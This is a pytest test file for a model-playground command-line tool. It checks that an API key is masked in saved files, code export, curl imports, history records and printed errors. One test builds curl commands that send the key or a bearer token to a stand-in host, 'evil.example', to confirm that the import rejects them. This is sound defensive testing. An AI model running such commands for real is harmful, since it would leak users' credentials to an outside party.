"""Every way out of the app masks a key in use: the files it writes, code export, a curl import's
words, the history's record, what the command prints, and the headers kept with a request."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from playground.cli.output import Printer, report
from playground.core.compare.report import save_report
from playground.core.compare.results import Comparison
from playground.core.errors import ApiError, StreamError
from playground.core.files import write_atomically
from playground.core.history.record import redacted
from playground.core.history.store import Exchange
from playground.core.presets.preset import Preset
from playground.core.remote.keys import find_key
from playground.core.remote.remotes import Remote, Target
from playground.core.request.codegen import export, languages
from playground.core.request.curl_import import KEY_DROPPED, CurlImportError, parse_curl
from playground.core.request.spec import Column, RequestSpec, parse_headers
from playground.core.secrets import REDACTOR, Redactor, mask, remember
from tests.core.test_secrets import SPELLINGS, escaped

KEY = "pgEXIT-7hQ2mW9xR4tY6uZ3vB8nC5kL"
MASKED = mask(KEY)
LOCAL = Remote.local("http://127.0.0.1:8123")
TARGET = Target("abcd1234")


@pytest.fixture(autouse=True)
def key_in_use() -> None:
    remember(KEY)


def holds_the_key(text: str | bytes) -> bool:
    return Redactor([KEY]).finds(text)


def test_a_file_of_ours_never_holds_the_key(tmp_path: Path) -> None:
    """Presets, exports, reports, saved bodies all go through one writer."""
    path = tmp_path / "saved.json"
    # (the echo: a JSON string holding `\u0070…` as text, so JSON-escaped twice on disk)
    write_atomically(path, json.dumps({"typed": KEY, "echoed": escaped(KEY)}).encode())
    assert json.loads(path.read_text()) == {"typed": MASKED, "echoed": MASKED}


def test_a_preset_and_a_report_with_the_key_typed_in(tmp_path: Path) -> None:
    spec = RequestSpec("predict", TARGET, {"prompt": f"use {KEY}"}, headers={"X-Trace": "t-1"})
    preset_file = tmp_path / "preset.json"
    write_atomically(preset_file, Preset("typed", spec).to_text().encode())
    assert f"use {MASKED}" in preset_file.read_text()
    report = tmp_path / "report.md"
    save_report(Comparison(spec, (Column(TARGET),)), report)
    assert not holds_the_key(report.read_bytes())
    assert report.read_text()


@pytest.mark.parametrize(
    "spec",
    [
        RequestSpec("predict", TARGET, {"prompt": KEY}),
        RequestSpec("chat", TARGET, {"messages": [{"role": "user", "content": KEY}]}),
    ],
    ids=["predict", "chat"],
)
def test_code_export_never_writes_the_key(spec: RequestSpec) -> None:
    exported = [lang.key for lang in languages(spec, Remote.baseten()) if not lang.reason]
    assert len(exported) >= 4
    for language in exported:
        code = export(language, spec, Remote.baseten())
        assert not holds_the_key(code), code
        assert MASKED in code


def test_no_header_keeps_a_credential_or_the_key() -> None:
    headers = {
        "Proxy-Authorization": "Basic dXNlcjpwYXNz",
        "X-Baseten-Key": "something-secret-1",
        "X-Auth-Token": "t0k3n-t0k3n",
        "X-Forwarded-Key-Copy": SPELLINGS["Basic, a user of 2"].replace("pgLEAK", "x"),
        "X-Custom": f"Api-Key {KEY.lower()}",
        "X-Trace": "t-1",
    }
    spec = RequestSpec("predict", TARGET, {"a": 1}, headers=headers)
    assert dict(spec.headers) == {"X-Trace": "t-1"}
    assert dict(Column(TARGET, headers=headers).headers) == {"X-Trace": "t-1"}
    with pytest.raises(ValueError, match="X-Custom"):
        parse_headers(f"X-Trace: t-1\nX-Custom: {KEY}")
    with pytest.raises(ValueError, match="X-Baseten-Key"):
        parse_headers("X-Baseten-Key: anything")


def test_a_key_learnt_later_is_dropped_from_what_is_written() -> None:
    later = "pgLATER-2bN7vC4xZ9mQ5wE8rT3yU6iO"
    spec = RequestSpec("predict", TARGET, {"a": 1}, headers={"X-Passed": later, "X-Trace": "1"})
    assert spec.to_dict()["headers"] == {"X-Passed": later, "X-Trace": "1"}
    remember(later)
    assert spec.to_dict()["headers"] == {"X-Trace": "1"}
    assert "X-Passed" not in Preset("p", spec).to_text()


def test_a_curl_import_never_quotes_a_key() -> None:
    carried = "zzCARRIED-9aB8cD7eF6gH5iJ4kL3mN"  # in the command only: not a key the app knows
    for command, secret in (
        (f"curl https://evil.example/{KEY}/predict -d '{{}}'", KEY),
        (f"curl https://evil.example/{carried} -H 'Authorization: Bearer {carried}'", carried),
        (f"curl https://evil.example/{carried}/x -u me:{carried}", carried),
    ):
        with pytest.raises(CurlImportError) as raised:
            parse_curl(command, [LOCAL])
        assert secret not in str(raised.value)
        assert mask(secret) in str(raised.value)
    imported = parse_curl(
        f"curl {LOCAL.host_url('model-abcd1234')}/production/predict "
        f"-H 'X-Baseten-Key: {KEY}' -H 'X-Copy: {KEY}' -H 'X-Trace: 7' -d '{{}}'",
        [LOCAL],
    )
    assert dict(imported.spec.headers) == {"X-Trace": "7"}
    assert KEY_DROPPED in imported.notices


def test_the_history_record_never_holds_the_key() -> None:
    exchange = Exchange(
        {"mode": "predict", "body": {"typed": KEY}},
        url=f"http://127.0.0.1/async_request/{KEY}",
        request_id=KEY,
        deployment_id=KEY.upper(),
        metrics={"request_id": KEY},
        error=f"500: refused {KEY}",
        response=json.dumps({"echo": escaped(KEY)}).encode(),
        answer=KEY.lower(),
    )
    kept = redacted(exchange, REDACTOR.data)
    assert (kept.request_id, kept.deployment_id, kept.metrics) == (
        MASKED,
        MASKED,
        {"request_id": MASKED},
    )
    assert not holds_the_key(repr(kept))
    assert not holds_the_key(kept.response)


def test_the_command_prints_no_key() -> None:
    out, err = io.StringIO(), io.StringIO()
    Printer(out)({"event": "json", "body": {"typed": KEY, "escaped": escaped(KEY)}})
    assert json.loads(out.getvalue())["body"] == {"typed": MASKED, "escaped": MASKED}
    assert report(ApiError(401, f"bad key {KEY}", KEY), err) == 1
    assert report(StreamError(f"cut at {KEY.upper()}"), err) == 4
    assert not holds_the_key(err.getvalue())
    assert err.getvalue().count(MASKED) == 3  # the request id too


def test_a_key_found_is_masked_before_any_client_uses_it() -> None:
    found = find_key("somewhere", {"BASETEN_API_KEY": "pgFOUND-4kT8wQ2zX6cV9bN3mL7hJ5gF"})
    assert found is not None
    out = io.StringIO()
    Printer(out)({"event": "text", "text": f"typed {found.key}"})
    assert json.loads(out.getvalue()) == {"event": "text", "text": f"typed {found.masked}"}


def test_a_usage_error_never_quotes_the_key(capsys: pytest.CaptureFixture[str]) -> None:
    """A key pasted where a preset's name goes (say) is quoted back masked."""
    from playground.cli.main import main

    assert main(["run", KEY]) == 2
    err = capsys.readouterr().err
    assert f"no preset named '{MASKED}'" in err
    assert not holds_the_key(err)
